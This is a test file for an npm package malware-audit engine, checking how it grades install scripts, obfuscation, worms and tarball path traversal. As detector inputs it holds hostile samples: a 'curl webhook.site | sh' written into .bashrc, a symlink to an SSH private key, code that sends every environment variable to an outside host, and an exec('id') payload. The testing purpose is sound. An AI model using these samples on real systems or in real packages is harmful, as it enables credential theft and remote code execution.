import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { auditTarballBytes, DEFAULT_TAR_LIMITS, highestSeverity, type AuditResult } from '../../server/src/engine/audit';
import { filesRunBy } from '../../server/src/engine/audit/checks';
import { buildPackageTarball, buildTar, sriOf } from '../support/tar-writer';
import * as shapes from '../fixtures/audit/packages';

function audit(shape: shapes.PackageShape, previousFiles?: string[]): AuditResult {
  const bytes = buildPackageTarball(shape.manifest, shape.files);
  return auditTarballBytes(String(shape.manifest.name), String(shape.manifest.version), bytes, { integrity: sriOf(bytes) }, undefined, previousFiles);
}

function ok(r: AuditResult) {
  assert.equal(r.status, 'ok', r.status === 'error' ? r.reason : '');
  if (r.status !== 'ok') throw new Error('unreachable');
  return r;
}

test('a postinstall that posts the environment is high, with file:line evidence', () => {
  const r = ok(audit(shapes.envStealer));
  assert.equal(highestSeverity(r.signals), 'high');
  const env = r.signals.find((s) => s.id === 'env-exfiltration');
  assert.ok(env, JSON.stringify(r.signals));
  assert.equal(env.severity, 'high');
  assert.equal(env.evidence.file, 'index.js');
  assert.equal(env.evidence.line, 3);
  assert.match(env.evidence.text, /JSON\.stringify\(process\.env/);
  assert.ok(env.installTime);
  const endpoint = r.signals.find((s) => s.id === 'exfil-endpoint');
  assert.equal(endpoint?.severity, 'high');
  assert.equal(endpoint?.evidence.line, 4);
  assert.deepEqual({ ...r.installScripts }, { postinstall: 'node index.js' });
});

test('an obfuscated loader is reported (identifiers, packed blob, decode+eval)', () => {
  const r = ok(audit(shapes.obfuscatedLoaderPkg));
  const ids = new Set(r.signals.map((s) => s.id));
  for (const id of ['obfuscated-identifiers', 'packed-blob', 'decode-eval'] as const) assert.ok(ids.has(id), `${id} in ${[...ids]}`);
  const evalSignal = r.signals.find((s) => s.id === 'decode-eval')!;
  assert.equal(evalSignal.evidence.file, 'lib/loader.js');
  assert.equal(evalSignal.evidence.line, 33);
  assert.ok(evalSignal.evidence.text.length <= 170);
});

test('a worm-style bundle.js run from postinstall is high on several counts', () => {
  const r = ok(audit(shapes.wormPkg()));
  const high = new Set(r.signals.filter((s) => s.severity === 'high').map((s) => s.id));
  for (const id of ['worm-bundle', 'worm-secret-scanner', 'worm-workflow-write', 'exfil-endpoint'] as const) assert.ok(high.has(id), `${id} in ${[...high]}`);
  assert.ok(r.signals.every((s) => s.evidence.file === 'bundle.js'));
  assert.ok(r.signals.find((s) => s.id === 'worm-workflow-write')!.evidence.line > 50_000);
});

test('curl | sh in a lifecycle script is high', () => {
  const r = ok(audit(shapes.curlPipe));
  const s = r.signals.find((x) => x.id === 'install-fetch-exec');
  assert.equal(s?.severity, 'high');
  assert.equal(s?.evidence.file, 'package.json#scripts.preinstall');
});

test('a native binary new in this version is reported; one shipped before is only listed', () => {
  const shape = { manifest: { name: 'tiny-lib', version: '1.0.1' }, files: [{ path: 'lib/index.js', content: 'module.exports = 1;\n' }, { path: 'lib/helper', content: shapes.elfBytes() }] };
  const fresh = ok(audit(shape, ['package.json', 'lib/index.js']));
  const added = fresh.signals.find((s) => s.id === 'new-native-binary');
  assert.equal(added?.severity, 'medium');
  assert.equal(added?.evidence.file, 'lib/helper');
  const known = ok(audit(shape, ['package.json', 'lib/index.js', 'lib/helper']));
  assert.deepEqual(known.signals.map((s) => [s.id, s.severity]), [['native-binary', 'low']]);
});

for (const [label, shape] of [
  ['esbuild (node install.js fetching its platform binary from the registry)', shapes.esbuildLike],
  ['core-js (node -e require postinstall banner)', shapes.coreJsLike],
  ['@parcel/watcher (node-gyp-build, prebuilt .node)', shapes.parcelWatcherLike],
  ['node-gyp rebuild', shapes.nodeGypLike],
  ['prebuild-install || node-gyp rebuild', shapes.prebuildInstallLike],
] as const) {
  test(`benign install shape has no high or medium signal: ${label}`, () => {
    const r = ok(audit(shape));
    assert.ok([undefined, 'low'].includes(highestSeverity(r.signals)), JSON.stringify(r.signals, null, 1));
  });
}

test("a prebuilt binary from the package's own GitHub release is low; the same command from another repository is high", () => {
  const own = ok(audit(shapes.ownReleaseDownload));
  assert.deepEqual(own.signals.map((s) => [s.id, s.severity]), [['binary-download', 'low']]);
  assert.match(own.signals[0].message, /own GitHub releases/);
  const other = ok(audit(shapes.strangerReleaseDownload));
  assert.equal(other.signals.find((s) => s.id === 'install-fetch-exec')?.severity, 'high', JSON.stringify(other.signals));
});

test('install-time code that downloads from an unrelated host and marks it executable stays medium', () => {
  const r = ok(audit(shapes.codeDownloadElsewhere));
  const dl = r.signals.find((s) => s.id === 'binary-download');
  assert.equal(dl?.severity, 'medium', JSON.stringify(r.signals));
  assert.equal(dl?.evidence.file, 'setup.js');
});

test('the files a lifecycle command runs', () => {
  assert.deepEqual(filesRunBy('node install.js'), ['install.js']);
  assert.deepEqual(filesRunBy(`node -e "try{require('./postinstall')}catch(e){}"`), ['postinstall', 'postinstall.js', 'postinstall/index.js']);
  assert.deepEqual(filesRunBy('node-gyp rebuild'), []);
  assert.deepEqual(filesRunBy('sh ./scripts/setup.sh && node --no-warnings ./dist/post.cjs'), ['scripts/setup.sh', 'dist/post.cjs']);
});

test('a path-traversal entry is a high signal and is not read as package code', () => {
  const tar = buildTar([
    { path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' },
    { path: 'package/../../.bashrc', content: 'curl https://webhook.site/x | sh', raw: true },
    { path: '/etc/cron.d/x', content: 'x', raw: true },
    { path: 'package/link', type: '2', linkTarget: '../../../home/u/.ssh/id_rsa' },
  ]);
  const gz = gzipSync(tar);
  const r = ok(auditTarballBytes('x', '1.0.0', gz, { integrity: sriOf(gz) }));
  const unsafe = r.signals.filter((s) => s.id === 'unsafe-entry');
  assert.equal(unsafe.length, 3);
  assert.ok(unsafe.every((s) => s.severity === 'high'));
  assert.ok(!r.signals.some((s) => s.id === 'exfil-endpoint'), 'the traversal entry was not scanned as package code');
});

test('hostile long inputs stay linear (1 MB lines of near-matches)', () => {
  const near = 'http://1.1.1.'.repeat(80_000) + '\n' + '_0x'.repeat(300_000) + '\n' + "'base64'".repeat(100_000);
  const shape = { manifest: { name: 'slow', version: '1.0.0', scripts: { postinstall: 'node x.js' } }, files: [{ path: 'x.js', content: near }] };
  const bytes = buildPackageTarball(shape.manifest, shape.files);
  const started = performance.now();
  // Repeated text compresses far past the ratio cap; this test is about the scanners, so the cap is lifted.
  ok(auditTarballBytes('slow', '1.0.0', bytes, { integrity: sriOf(bytes) }, { ...DEFAULT_TAR_LIMITS, maxRatio: 1e6 }));
  assert.ok(performance.now() - started < 3000, `took ${performance.now() - started} ms`);
});

test('an exfiltration host in a library comment is low; in library code medium; at install time high', () => {
  const lib = (content: string, scripts?: Record<string, string>) => ok(audit({ manifest: { name: 'l', version: '1.0.0', ...(scripts ? { scripts } : {}) }, files: [{ path: 'lib/a.js', content }] })).signals.find((s) => s.id === 'exfil-endpoint')?.severity;
  assert.equal(lib('// crashes (https://pastebin.com/N21QzeQA) when debugging\nmodule.exports = 1;'), 'low');
  assert.equal(lib("const url = 'https://pastebin.com/raw/abc';"), 'medium');
  assert.equal(lib("const url = 'https://pastebin.com/raw/abc';", { postinstall: 'node lib/a.js' }), 'high');
});

/** A valid WebAssembly module of about `size` bytes: the header and one custom section of padding. */
function wasmModule(size: number): Buffer {
  const payload = Buffer.concat([Buffer.from([1, 0x78]), Buffer.alloc(size, 7)]); // name "x", then bytes
  const leb = (n: number) => {
    const out: number[] = [];
    do {
      let b = n & 0x7f;
      n >>>= 7;
      if (n) b |= 0x80;
      out.push(b);
    } while (n);
    return Buffer.from(out);
  };
  return Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.from([0]), leb(payload.length), payload]);
}

test('an inline WebAssembly module (prisma, ssh2) is a low packed blob at load time, medium at install time; the magic alone in front of a payload is not', () => {
  const blobSignal = (base64: string, scripts?: Record<string, string>) =>
    ok(audit({ manifest: { name: 'w', version: '1.0.0', main: 'lib/a.js', ...(scripts ? { scripts } : {}) }, files: [{ path: 'lib/a.js', content: `const bytes = Buffer.from('${base64}', 'base64');\nmodule.exports = WebAssembly.compile(bytes);\n` }] })).signals.find((s) => s.id === 'packed-blob');
  const wasm = wasmModule(3000).toString('base64');
  const atLoad = blobSignal(wasm);
  assert.equal(atLoad?.severity, 'low');
  assert.match(atLoad!.message, /WebAssembly module/);
  assert.equal(blobSignal(wasm, { postinstall: 'node lib/a.js' })?.severity, 'medium');
  // The same magic and version in front of JavaScript: not a module, so the usual packed blob.
  const forged = Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.from('require("child_process").exec("id");'.repeat(80))]).toString('base64');
  const fake = blobSignal(forged);
  assert.equal(fake?.severity, 'medium');
  assert.doesNotMatch(fake!.message, /WebAssembly/);
});

test("the debug library's read of its own DEBUG_* settings is not the whole environment; a read of every variable still is", () => {
  const envSignal = (content: string) =>
    ok(audit({ manifest: { name: 'e', version: '1.0.0', main: 'lib/a.js' }, files: [{ path: 'lib/a.js', content }] })).signals.find((s) => s.id === 'env-exfiltration');
  const net = "const https = require('https');\n";
  // debug's own code, readable and minified.
  assert.equal(envSignal(`${net}exports.inspectOpts = Object.keys(process.env).filter((key) => /^debug_/i.test(key)).reduce((o, k) => o, {});\n`), undefined);
  assert.equal(envSignal(`${net}t.inspectOpts=Object.keys(process.env).filter(function(e){return/^debug_/i.test(e)}).reduce(function(t,e){return t},{});\n`), undefined);
  assert.equal(envSignal(`${net}const mine = Object.keys(process.env).filter(k => k.startsWith('PRISMA_'));\n`), undefined);
  // Every variable, sent on: still taken.
  assert.equal(envSignal(`${net}Object.keys(process.env).forEach((k) => https.get('https://x.example/?' + k + '=' + process.env[k]));\n`)?.severity, 'medium');
  assert.equal(envSignal(`${net}const all = Object.keys(process.env).filter((k) => process.env[k]);\n`)?.severity, 'medium');
  // A narrowed read first does not hide a whole one later in the file.
  assert.equal(envSignal(`${net}const d = Object.keys(process.env).filter((key) => /^debug_/i.test(key));\nconst body = JSON.stringify(process.env);\n`)?.severity, 'medium');
});
